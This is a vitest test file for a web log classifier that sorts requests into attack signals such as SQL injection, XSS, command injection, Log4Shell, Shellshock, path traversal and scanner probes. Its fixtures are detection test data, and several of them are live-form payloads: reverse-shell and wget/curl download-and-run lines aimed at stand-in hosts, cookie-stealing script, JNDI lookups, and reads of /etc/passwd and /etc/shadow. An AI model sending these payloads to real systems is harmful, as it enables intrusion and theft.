import { describe, expect, it } from 'vitest';
import { classify, isAttackSignal, RULES } from '../src/index.js';
import type { RequestFacts } from '../src/index.js';

const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';
const MAY_2026 = Date.UTC(2026, 4, 1);

function signals(path: string, extra: Partial<RequestFacts> = {}): string[] {
  return classify({ method: 'GET', path, userAgent: CHROME, status: 404, time: MAY_2026, ...extra }).signals;
}

// Each rule: requests that must fire it, and look-alikes that must not.
const CASES: Record<
  string,
  {
    yes: Array<string | [string, Partial<RequestFacts>]>;
    no: Array<string | [string, Partial<RequestFacts>]>;
  }
> = {
  'wordpress-probe': {
    yes: [
      '/wp-login.php',
      '/xmlrpc.php',
      '/wp-admin/',
      '/blog/wp-admin/',
      '/wp-config.php.bak',
      '/WP-LOGIN.PHP',
      '/wp-content/plugins/revslider/',
      '/wp-includes/wlwmanifest.xml',
      '/x//./wp-login.php',
      // Any wp-*.php file, listed or not.
      '/blog/wp-newfile.php',
    ],
    no: [
      '/blog/wordpress-tips.html',
      '/wp',
      '/about/wp-history',
      ['/wp-login.php', { status: 200 }],
      '/wp-notes.txt',
    ],
  },
  'phpmyadmin-probe': {
    yes: [
      '/phpmyadmin/',
      '/phpMyAdmin-4.9.0/index.php',
      '/pma/',
      '/myadmin/scripts/setup.php',
      '/mysqladmin/',
      '/adminer.php',
    ],
    no: ['/php/my/admin', '/blog/phpmyadmin-review', ['/phpmyadmin/', { status: 200 }]],
  },
  'admin-interface-probe': {
    yes: [
      '/administrator/',
      '/admin.php',
      '/administrator/index.php',
      '/manager/html',
      '/solr/admin/',
      '/user/register',
      '/node/add/blog',
      '/jmx-console/',
    ],
    no: [
      '/blog/administration-tips',
      '/manager',
      ['/admin', { status: 302 }],
      ['/administrator/', { status: 200 }],
    ],
  },
  'sensitive-file': {
    yes: [
      // A database dump under any name, and an editor's backup of any file.
      '/shop-2024.sql.gz',
      '/index.php~',
      '/.env',
      '/.env.production',
      '/app/.env.bak',
      '/.git/config',
      '/.git/HEAD',
      '/.svn/entries',
      '/.DS_Store',
      '/backup.zip',
      '/db.sql',
      '/dump.sql.gz',
      '/.aws/credentials',
      '/id_rsa',
      '/server.key',
      '/index.php~',
      '/config.php.bak',
      '/phpinfo.php',
      ['/.env', { status: 200 }],
    ],
    no: [
      // The root of Apache's per-user folders.
      '/~',
      '/environment.html',
      '/blog/git-tips',
      '/files/logstash-1.3.2.tar.gz',
      '/scripts/python/wrap.backup/',
      '/.well-known/security.txt',
      '/keys.html',
    ],
  },
  'backdoor-probe': {
    yes: ['/c99.php', '/r57.php', '/wso2.8.5.php', '/shell.php', '/uploads/alfa-rex.php', '/cmd.aspx'],
    no: ['/c99.html', '/index.php', '/shell/', '/css.php'],
  },
  'cve-probe': {
    yes: [
      '/_ignition/execute-solution',
      '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '/cgi-bin/nas_sharing.cgi',
      '/global-protect/login.esp',
      '/HNAP1/',
      '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array',
      '/boaform/admin/formLogin',
      '/fckeditor/editor/filemanager/connectors/test.html',
    ],
    no: ['/ignition', '/docs/phpunit-guide.html', '/setup', '/global/protect.html'],
  },
  'path-traversal': {
    yes: [
      '/../../etc/passwd',
      '/static/..%2f..%2f..%2fetc%2fpasswd',
      '/%252e%252e%252f%252e%252e%252fetc/hosts',
      '/download?file=../../../../etc/shadow',
      '/..\\..\\windows\\win.ini',
      '/cgi-bin/.%2e/.%2e/.%2e/bin/sh',
      '/x?page=/proc/self/environ',
      '/a/..;/b',
      // An OS file named with doubled, `.` or backslash separators, which the file system reads as the plain name.
      '/x?page=/etc//passwd',
      '/x?page=/etc/./passwd',
      '/x?page=%5cetc%5cpasswd',
      // `..` after `=`, `\\` or at the start, before `\\` or a query, without any OS file named.
      '/download?file=..\\config.php',
      '/download?file=../config.php',
      '/download?file=a\\../b',
      '/static/..?x=1',
      '../secret.txt',
    ],
    no: [
      '/files/a..b.txt',
      '/blog/.../post',
      '/docs/etc/passwords-policy.html',
      '/x?v=1..2',
      '/files/v1../readme',
      '/x?u=https://example.com//docs/etc/passwd-explained',
    ],
  },
  'sql-injection': {
    yes: [
      ['/', { userAgent: "Mozilla/5.0' AND SLEEP(5)-- x" }],
      ['/', { userAgent: "Mozilla/5.0 (Windows NT 10.0)' or '1'='1" }],
      "/item?id=1' OR '1'='1",
      '/item?id=1 AND 5280=5280',
      '/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x71,0x72)--%20-',
      '/item?id=1)%20AND%20(SELECT%201234%20FROM%20(SELECT(SLEEP(5)))abc)',
      '/item?id=1/**/union/**/select/**/1,2',
      "/item?id=1';WAITFOR DELAY '0:0:5'--",
      "/login?user=admin'--",
      '/item?id=1+AND+EXTRACTVALUE(1,CONCAT(0x5c,@@version))',
      "/item?id=1' ORDER BY 1-- -",
      '/q?x=1%27%20or%201=1',
      '/item?id=-1+union+select+user,password+from+users',
      '/item?id=-1%20UNION%20DISTINCT%20SELECT(1)',
      '/item?id=1%0aunion%09select%0a1',
      "/item?id=1'+AND+SLEEP(5)--+-",
      '/item?id=1+AND+BENCHMARK(5000000,MD5(1))',
      '/item?id=1+AND+(select+name+from+users+limit+1)=1',
      '/item?id=(SELECT(0x71))',
      // Comments standing in for spaces, with text inside or closed by a line end, and MySQL's versioned comments
      // (whose text MySQL runs).
      '/item?id=1%20union/*foo*/select%201',
      '/item?id=1/*!50000union*/%20/*!50000select*/%201',
      '/item?id=1%20union%23x%0aselect%201',
      '/item?id=1%20union--%0aselect%201',
      '/item?id=1;drop/*x*/table%20users',
      "/login?user=admin')%20--",
      // Runs of spaces, and no-break spaces alone (which MySQL's latin1 takes for spaces).
      '/item?id=-1%20union%20%20%20select%201',
      '/item?id=-1%c2%a0union%c2%a0select%c2%a01',
      // Tautologies without spaces, after a bare number, with longer quoted words.
      "/item?id=1'or'1'='1",
      '/item?id=1and%205280=5280',
      "/item?id=1'%20or%20'abc'='abc",
      '/item?id=1%22%20or%20%22abc%22=%22abc',
      "/item?id=1'%20or%20'x='x",
    ],
    no: [
      '/blog/union-select-explained',
      '/search?q=rock+and+roll',
      "/search?q=don't+stop",
      '/item?id=42',
      '/search?q=select+items+from+list',
      '/?a=1&b=2',
      // Words that merely start like the keywords: searches, not injections.
      '/search?q=european+union+selection',
      '/search?q=trade+union+selected+delegates',
      '/search?q=union+all+selectors',
      // Words in parentheses after a function-like word: searches.
      '/search?q=sleep(better)',
      '/search?q=the+(select+few)',
      '/search?q=benchmark(s)+for+laptops',
      // A comment-like `#` or `/*` in text that has no SQL around it.
      '/search?q=%23union%0aselected+works',
      '/search?q=/*+union+*/+membership',
      // A `#` after a letter (C#), and hashtags after a quote, whatever letter, digit or `_` starts them.
      '/search?q=c%23+tutorial',
      "/search?q='%23a+'%23z+'%230+'%239+'%23_x",
      // A referer may carry someone's search text; SQL is looked for in the user agent only.
      ['/', { referer: "https://www.example.org/search?q=1' or '1'='1" }],
    ],
  },
  xss: {
    yes: [
      '/search?q=<script>alert(1)</script>',
      '/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E',
      '/?r=javascript:alert(document.cookie)',
      '/?next=JaVaScRiPt:%2F%2F%250aeval(name)',
      '/search?q=%253Csvg%2Fonload%3Dalert(1)%253E',
      '/x?q="><body onload=prompt(1)>',
      // Planted for a log viewer that shows headers unescaped.
      ['/', { userAgent: '<script>alert(1)</script>' }],
      ['/', { userAgent: 'Mozilla/5.0 (X11; Linux x86_64) <img src=x onerror=alert(document.cookie)>' }],
      ['/', { referer: 'https://example.org/"><svg/onload=alert(1)>' }],
      '/x?q=x"onmouseover=alert(1)//',
      "/x?q=x'%20onfocus=prompt(document.domain)%20autofocus='",
      '/x?q=alert`1`',
      "/x?q=confirm('xss')",
      // Script calls without a dialog: reading the cookie, building text from character codes, IE's CSS expression.
      '/x?q=eval(string.fromcharcode(88,83,83))',
      '/x?q=new%20image().src=%22//e.vil/?c=%22%2bdocument.cookie',
      '/x?s=width:expression(1)',
      // A handler breaking out of an attribute, calling no dialog.
      '/x?q=%22%20onmouseover=x%20%22',
      "/x?q=x'/onfocus=y",
      '/x?q=%3Cimg%20src=x%3E',
      '/x?q=alert(this',
      '/x?q=alert(location.href)',
    ],
    no: [
      '/search?q=a<b',
      '/projects/xdotool%3E',
      '/search?q=javascript+tutorial',
      '/search?q=javascript:+the+good+parts',
      '/blog/alerting-done-right',
      // A parameter named like a handler, a dialog word before a plain word in parentheses.
      '/widget?onload=fast&theme=dark',
      '/search?q=alert(everyone)',
      '/search?q=prompt(engineering)+course',
      '/search?q=document.cookie+explained',
    ],
  },
  'command-injection': {
    yes: [
      '/ping?host=127.0.0.1;id',
      '/ping?host=x|wget http://e.vil/x.sh',
      '/x?c=$(whoami)',
      '/x?c=`uname -a`',
      '/cgi-bin/x?cmd=/bin/sh',
      '/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/Mozi.m',
      '/x?c=%0acat /etc/hosts',
      '/ping?host=1;curl evil.example|sh',
      '/ping?host=1;nc 203.0.113.5 4444 -e /bin/sh',
      '/x?c=;sleep 5',
      '/x?c=|id;',
      '/cgi-bin/x?cmd=/bin//sh',
      '/x?c=powershell.exe%20-enc%20abc',
      '/x?c=busybox%20wget',
      '/x?c=;python%20-c%20x',
      '/x?c=;python3%20-c%20x',
      '/ping?host=1;nslookup%20e.vil',
    ],
    no: [
      '/files/?C=M;O=D',
      '/search?q=identity',
      '/page;jsessionid=abc',
      '/a?x=1&&y=2',
      // Searches with a semicolon before a word that is also a command.
      '/search?q=kids;+ping+pong',
      "/search?q=mother's+day;+cat+gifts",
      '/search?q=yoga|sleep+better',
      // Pages whose names start with a shell's.
      '/blog/powershell-tips',
      '/docs/bin/sharing',
      '/downloads/busybox-guide',
    ],
  },
  shellshock: {
    yes: [
      ['/cgi-bin/status', { userAgent: '() { :; }; /bin/bash -c "id"' }],
      ['/', { referer: '() { :;}; echo vulnerable' }],
      '/cgi-bin/x?q=()%20{%20:;%20};%20id',
      '/cgi-bin/x?q=()%09{%20:;%20};%20id',
    ],
    no: [['/', { userAgent: 'Mozilla/5.0 (compatible) {x}' }], '/docs/functions()/braces{}'],
  },
  log4shell: {
    yes: [
      ['/', { userAgent: '${jndi:ldap://evil.example/a}' }],
      '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fe.vil%2Fa%7D',
      ['/', { referer: '${${lower:j}ndi:${lower:l}dap://x/}' }],
      '/?q=${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}',
    ],
    no: ['/?tpl=${name}', '/docs/jndi-guide.html'],
  },
  'php-remote-include': {
    yes: [
      '/index.php?page=http://evil.example/shell.txt?',
      '/x?inc=php://input',
      '/index.php?file=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+',
      '/view?page=http://evil.example/c99.txt',
      '/index.php?lang=https://e.vil/x',
      '/index.php?lang=ftp://e.vil/x',
      '/view.html?page=http://e.vil/x?',
    ],
    no: [
      '/login?next=https://example.com/account',
      '/out?url=http://example.org/page.html',
      // WordPress's login after a signed-out admin visit, and URL parameters after `&` and `;`.
      '/wp-login.php?redirect_to=https%3A%2F%2Fexample.com%2Fwp-admin%2F&reauth=1',
      '/go.php?a=1&next=https://example.com/',
      '/go.php?a=1;url=https://example.com/',
      // Every parameter that carries a URL by design, on a PHP page.
      ...[
        'redirect',
        'redirect_to',
        'redirect_uri',
        'redirect_url',
        'redirecturl',
        'return',
        'return_to',
        'returnto',
        'return_url',
        'returnurl',
        'next',
        'url',
        'u',
        'uri',
        'goto',
        'continue',
        'callback',
        'dest',
        'destination',
        'target',
        'link',
        'href',
        'ref',
        'referer',
        'referrer',
        'back',
        'service',
        'share',
        'openid.return_to',
        'success_url',
        'cancel_url',
        'site',
        'website',
      ].map((name) => `/go.php?${name}=https://example.com/page`),
      // A URL in any parameter of a page that is not a PHP script.
      '/page.html?img=https://cdn.example.com/x.png',
      // `data:` without the comma or `;` a data URL needs.
      '/page.php?q=data:text/html',
    ],
  },
  'bad-method': {
    yes: [
      ['/', { method: 'TRACE' }],
      ['/', { method: 'PROPFIND' }],
      ['example.com:443', { method: 'CONNECT' }],
    ],
    no: [
      ['/', { method: 'GET' }],
      ['/', { method: 'OPTIONS' }],
      ['/', { method: 'DELETE' }],
    ],
  },
  'malformed-request': {
    yes: [
      ['/', { method: '\\x16\\x03\\x01' }],
      '/a%00.php',
      '/bad%zzescape',
      `/${'a'.repeat(9000)}`,
      'http://proxy.example/',
      '/tab\there',
      '/latin1-%E9t%E9',
      // Methods are upper-case tokens of at most 24 characters.
      ['/', { method: 'get' }],
      ['/', { method: '' }],
      ['/', { method: 'G ET' }],
      ['/', { method: 'X'.repeat(25) }],
      // DEL and control bytes, in the path or the query; bad escapes in the query too.
      '/del\x7f',
      ['/search', { query: 'q=a\x01' }],
      '/search?q=%zz',
      // `*` is OPTIONS's target only.
      ['*', { method: 'GET' }],
      ['x', { method: 'OPTIONS' }],
      // Over 8,190 characters of path and query together.
      `/${'a'.repeat(8190)}`,
      `/${'a'.repeat(4000)}?${'b'.repeat(4190)}`,
      ['/' + 'a'.repeat(4000), { query: 'b'.repeat(4190) }],
    ],
    no: [
      '/',
      '/a%20b',
      '/caf%C3%A9',
      '/blog/geekery%E2%80%A6',
      ['/', { method: 'X'.repeat(24) }],
      ['/', { method: 'VERSION-CONTROL' }],
      ['/', { method: 'BASELINE_CONTROL' }],
      ['/', { method: 'AZ' }],
      ['*', { method: 'OPTIONS' }],
      `/${'a'.repeat(8189)}`,
      `/${'a'.repeat(4000)}?${'b'.repeat(4189)}`,
      ['/' + 'a'.repeat(4000), { query: '?' + 'b'.repeat(4189) }],
      '/search?q=100%25',
      ['/search', { query: '?q=a%20b' }],
    ],
  },
  'scanner-user-agent': {
    yes: [
      ['/', { userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }],
      ['/', { userAgent: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' }],
      ['/', { userAgent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' }],
      ['/', { userAgent: 'gobuster/3.6' }],
      ['/', { userAgent: 'Fuzz Faster U Fool v2.1.0-dev' }],
      ['/', { userAgent: 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' }],
      ['/', { userAgent: 'Mozilla/5.0 zgrab/0.x' }],
      ['/', { userAgent: 'WhatWeb/0.5.5' }],
    ],
    no: [
      ['/', { userAgent: CHROME }],
      ['/', { userAgent: 'curl/8.5.0' }],
      ['/', { userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }],
    ],
  },
  'empty-user-agent': {
    yes: [
      ['/', { userAgent: '' }],
      ['/', { userAgent: '-' }],
      ['/', { userAgent: undefined }],
    ],
    no: [['/', { userAgent: 'x' }]],
  },
  'tool-user-agent': {
    yes: [
      ['/', { userAgent: 'python-requests/2.31.0' }],
      ['/', { userAgent: 'curl/8.5.0' }],
      ['/', { userAgent: 'Wget/1.21.4' }],
      ['/', { userAgent: 'Go-http-client/1.1' }],
    ],
    no: [
      ['/', { userAgent: CHROME }],
      ['/', { userAgent: 'sqlmap/1.7' }],
    ],
  },
  'outdated-browser': {
    yes: [
      ['/', { userAgent: 'Mozilla/5.0 (Windows NT 6.1; rv:2.0) Gecko/20100101 Firefox/4.0', time: MAY_2026 }],
      [
        '/',
        {
          userAgent: 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)',
          time: new Date('2015-05-17T10:00:00Z'),
        },
      ],
      [
        '/',
        {
          userAgent:
            'Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.112 Safari/537.36',
          time: MAY_2026,
        },
      ],
    ],
    no: [
      [
        '/',
        {
          userAgent: 'Mozilla/5.0 (Windows NT 6.1; rv:2.0) Gecko/20100101 Firefox/4.0',
          time: Date.UTC(2011, 5, 1),
        },
      ],
      ['/', { userAgent: CHROME, time: MAY_2026 }],
      [
        '/',
        { userAgent: 'Mozilla/5.0 (Windows NT 6.1; rv:2.0) Gecko/20100101 Firefox/4.0', time: undefined },
      ],
      // A time that is no time (an unparsable log date) says nothing about the browser's age.
      [
        '/',
        { userAgent: 'Mozilla/5.0 (Windows NT 6.1; rv:2.0) Gecko/20100101 Firefox/4.0', time: Number.NaN },
      ],
      [
        '/',
        {
          userAgent: 'Mozilla/5.0 (Windows NT 6.1; rv:2.0) Gecko/20100101 Firefox/4.0',
          time: new Date('not a date'),
        },
      ],
      [
        '/',
        {
          userAgent: 'Mozilla/5.0 (Windows NT 6.1; WOW64; rv:27.0) Gecko/20100101 Firefox/27.0',
          time: Date.UTC(2015, 4, 17),
        },
      ],
    ],
  },
  'fake-crawler': {
    yes: [
      [
        '/',
        {
          userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
          ip: '177.37.188.215',
        },
      ],
      [
        '/',
        {
          userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
          ip: '127.0.0.1',
        },
      ],
      [
        '/',
        {
          userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
          ip: '192.168.1.20',
        },
      ],
      [
        '/',
        {
          userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
          ip: '8.8.8.8',
        },
      ],
      [
        '/',
        { userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', ip: '::1' },
      ],
    ],
    no: [
      [
        '/',
        {
          userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
          ip: '66.249.73.135',
        },
      ],
      [
        '/',
        {
          userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
          ip: '2001:4860:4801:10::1',
        },
      ],
      [
        '/',
        {
          userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
          ip: '157.55.39.1',
        },
      ],
      [
        '/',
        {
          userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
          ip: '65.55.213.73',
        },
      ],
      [
        '/',
        { userAgent: 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', ip: '127.0.0.1' },
      ],
      ['/', { userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }],
    ],
  },
  'crawler-restricted': {
    yes: [
      ['/account', { userAgent: 'Mozilla/5.0 (compatible; AhrefsBot/7.0)', authRequired: true, status: 302 }],
      ['/svnweb/', { userAgent: 'Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)', status: 403 }],
    ],
    no: [
      ['/account', { authRequired: true, status: 302 }],
      ['/blog', { userAgent: 'Mozilla/5.0 (compatible; AhrefsBot/7.0)', status: 200 }],
    ],
  },
  'not-found-probe': {
    yes: [
      '/old-secret-page',
      ['/nope', { linked: false, referer: 'https://example.com/' }],
      ['/x', { host: 'example.com', referer: 'https://example.com/x' }],
      // Scanners forge a referer of the page itself, in any spelling of the site's host, with a port or a query.
      ['/x', { host: 'Example.COM', referer: 'HTTP://EXAMPLE.com:8443/X?utm_source=a' }],
      ['/wp-admin/', { host: 'example.com', referer: 'http://example.com/wp-admin/?x=1' }],
      ['/', { host: 'example.com', referer: 'https://example.com?utm_source=a' }],
      ['/', { host: 'example.com', referer: 'https://example.com#top' }],
      // The referer's path is read as the request's: `+` is no space there, a NUL ends it, 8 KB of it at most.
      ['/a+b', { host: 'example.com', referer: 'https://example.com/a+b' }],
      ['/%C3%89t%C3%A9', { host: 'example.com', referer: 'https://example.com/%C3%89t%C3%A9' }],
      ['/shell.php%00.jpg', { host: 'example.com', referer: 'https://example.com/shell.php%00.gif' }],
      [`/${'a'.repeat(9000)}`, { host: 'example.com', referer: `https://example.com/${'a'.repeat(9000)}` }],
      // A referer that names no web page links nowhere.
      ['/old', { referer: '-' }],
      ['/old', { referer: 'android-app://com.example/' }],
      ['/old', { referer: 'https://' }],
      ['/old', { referer: 'https:///old' }],
      ['/old', { referer: 'https://:443/old' }],
      ['/old', { referer: 'example.com/page' }],
    ],
    no: [
      ['/a', { status: 200 }],
      '/favicon.ico',
      '/apple-touch-icon-120x120.png',
      '/img/missing.png',
      ['/broken', { referer: 'https://example.com/page' }],
      // Another page of the site, or of another site, links here: a broken link, not a guess.
      ['/broken', { host: 'example.com', referer: 'https://example.com/page' }],
      ['/broken', { host: 'example.com', referer: 'https://EXAMPLE.com/broken-links?from=/broken' }],
      ['/broken', { host: 'example.com', referer: 'https://example.com' }],
      ['/broken', { host: 'example.com', referer: 'http://blog.example.org/broken' }],
      ['/broken', { host: 'example.com', referer: 'https://example.com.evil.test/broken' }],
      ['/gone', { linked: true, referer: '-' }],
      ['/gone', { linked: true }],
    ],
  },
};

describe('rule catalogue', () => {
  it('has a severity, title, explanation and source for every rule the issue names', () => {
    for (const id of Object.keys(CASES)) {
      const rule = RULES[id];
      expect(rule, id).toBeDefined();
      expect(rule!.title.length).toBeGreaterThan(3);
      expect(rule!.explanation.length).toBeGreaterThan(20);
      expect(rule!.source.length).toBeGreaterThan(3);
    }
    expect(Object.keys(RULES).sort()).toEqual(Object.keys(CASES).sort());
  });

  it('calls probes and injections attacks, and odd-but-harmless clients not', () => {
    expect(isAttackSignal('sql-injection')).toBe(true);
    expect(isAttackSignal('fake-crawler')).toBe(true);
    expect(isAttackSignal('empty-user-agent')).toBe(false);
    expect(isAttackSignal('outdated-browser')).toBe(false);
    expect(isAttackSignal('no-such-rule')).toBe(false);
  });
});

for (const [id, { yes, no }] of Object.entries(CASES)) {
  describe(`rule ${id}`, () => {
    for (const c of yes) {
      const [path, extra] = typeof c === 'string' ? [c, {}] : c;
      it(`fires on ${JSON.stringify(path).slice(0, 90)} ${JSON.stringify(extra).slice(0, 80)}`, () => {
        expect(signals(path, extra)).toContain(id);
      });
    }
    for (const c of no) {
      const [path, extra] = typeof c === 'string' ? [c, {}] : c;
      it(`stays quiet on ${JSON.stringify(path).slice(0, 90)} ${JSON.stringify(extra).slice(0, 80)}`, () => {
        expect(signals(path, extra)).not.toContain(id);
      });
    }
  });
}

describe('real scanner request shapes', () => {
  it("flags Nmap's http-enum probe and dirb/gobuster wordlist paths", () => {
    expect(signals('/nice%20ports%2C/Tri%6Eity.txt%2ebak')).toContain('sensitive-file');
    for (const p of [
      '/.git/HEAD',
      '/.svn/entries',
      '/.htpasswd',
      '/backup.tar.gz',
      '/phpmyadmin/',
      '/wp-admin/',
      '/administrator/',
      '/.env',
    ]) {
      expect(signals(p).some(isAttackSignal), p).toBe(true);
    }
  });

  it('reports signals once each, in catalogue order', () => {
    const s = signals("/wp-login.php?x=1' or '1'='1&y=<script>alert(1)</script>", {
      userAgent: 'sqlmap/1.7',
    });
    expect(new Set(s).size).toBe(s.length);
    const order = Object.keys(RULES);
    expect([...s].sort((a, b) => order.indexOf(a) - order.indexOf(b))).toEqual(s);
    expect(s).toEqual(
      expect.arrayContaining(['wordpress-probe', 'sql-injection', 'xss', 'scanner-user-agent']),
    );
  });

  it('reads the query from `query` when given, and from the path otherwise', () => {
    expect(classify({ method: 'GET', path: '/item', query: "id=1' or '1'='1" }).signals).toContain(
      'sql-injection',
    );
    expect(classify({ method: 'GET', path: '/item', query: "?id=1' or '1'='1" }).signals).toContain(
      'sql-injection',
    );
    expect(classify({ method: 'GET', path: "/item?id=1' or '1'='1" }).signals).toContain('sql-injection');
  });
});
